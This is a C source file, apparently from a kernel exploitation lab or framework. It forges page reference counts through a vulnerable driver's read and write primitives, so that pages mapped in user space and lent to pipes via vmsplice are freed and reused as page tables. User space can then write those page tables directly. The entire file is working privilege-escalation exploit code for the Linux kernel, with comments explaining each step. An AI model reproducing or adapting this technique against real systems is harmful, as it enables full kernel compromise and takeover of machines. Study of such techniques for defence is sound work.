// SPDX-License-Identifier: GPL-2.0-only
/*
 * Forge the reference counts of pages that the attacker maps, so that they are
 * freed while they are mapped, and become page tables. User mode writes to
 * those without asking any key of the kernel.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "objects.h"

#define WINDOW_SIZE	(48UL << 20)
#define PAGES_MOST	(WINDOW_SIZE / 4096)
#define PIPE_SIZE	(1UL << 20)
#define PIPES		(WINDOW_SIZE / PIPE_SIZE)

/*
 * Free memory beside the window: less than the tables take that are made. With
 * less, a kernel whose own memory and that of processes are in blocks of their
 * own ends those that hold memory, for which there is no block.
 */
#define LEFT_FREE	(72UL << 20)

/* A pipe holds so much in pages of its own. */
#define OWN_PAGES	(16 * 4096)

static char *mapped;
static u64 counts[PAGES_MOST];	/* where the kernel counts, by page */

static u64 mapped_read(size_t page, unsigned int slot)
{
	return *(volatile u64 *)(mapped + page * page_size() + slot * sizeof(u64));
}

static void mapped_write(size_t page, unsigned int slot, u64 value)
{
	*(volatile u64 *)(mapped + page * page_size() + slot * sizeof(u64)) = value;
}

/* A second reference to the page, which can be dropped. */
static int lend(char *start)
{
	struct iovec iov = { .iov_base = start, .iov_len = PIPE_SIZE };
	int fds[2];

	if (pipe(fds) || fcntl(fds[0], F_SETPIPE_SZ, PIPE_SIZE) < 0)
		die_errno("making a pipe");
	if (vmsplice(fds[1], &iov, 1, 0) != (ssize_t)PIPE_SIZE)
		die_errno("lending pages to a pipe");
	close(fds[1]);
	return fds[0];
}

/*
 * Drop the second references. A CPU keeps more and more of what is freed, which
 * does not become whole blocks then: unless it allocates meanwhile.
 */
static void give_up(int pipes[PIPES])
{
	static char buffer[OWN_PAGES];
	int own[2];
	size_t i;

	if (pipe(own))
		die_errno("making a pipe");
	for (i = 0; i < PIPES; i++) {
		close(pipes[i]);
		if (write(own[1], buffer, OWN_PAGES) != OWN_PAGES ||
		    read(own[0], buffer, OWN_PAGES) != OWN_PAGES)
			die_errno("allocating pages");
	}
	/* The driver also empties the lists of CPUs. */
	objects_window(1, 0);
	objects_free_in_use();
}

/*
 * Let only one of the two references to each page be known. To ask for the
 * address is an access, for which the kernel holds a reference for a while.
 */
static void forge_counts(void)
{
	size_t page, pages = WINDOW_SIZE / page_size();

	for (page = 0; page < pages; page++)
		counts[page] = vuln_mm(mapped + page * page_size()).counts;
	for (page = 0; page < pages; page++) {
		u64 value = vuln_read(counts[page]);

		if (value >> 32 == 2)
			vuln_write(counts[page],
				   (value & 0xffffffff) | 1ULL << 32);
		else
			counts[page] = 0;
	}
}

int main(int argc, char **argv)
{
	struct window window = {
		.pages = WINDOW_SIZE / page_size(),
		.read = mapped_read,
		.write = mapped_write,
	};
	int pipes[PIPES];
	size_t i;

	use_up_memory(WINDOW_SIZE + LEFT_FREE);
	mapped = populated(WINDOW_SIZE);
	/*
	 * The mappings must never go away: each would give up a reference to a
	 * page that has other owners by then. Before there are pipes, which the
	 * other process would keep open.
	 */
	keep_for_ever(CLONE_VM);
	for (i = 0; i < PIPES; i++)
		pipes[i] = lend(mapped + i * PIPE_SIZE);
	forge_counts();
	give_up(pipes);

	if (!attack_by_window(&window, argc > 1 ? argv[1] : NULL))
		out_of_reach("the memory did not become a page table");
	return 0;
}
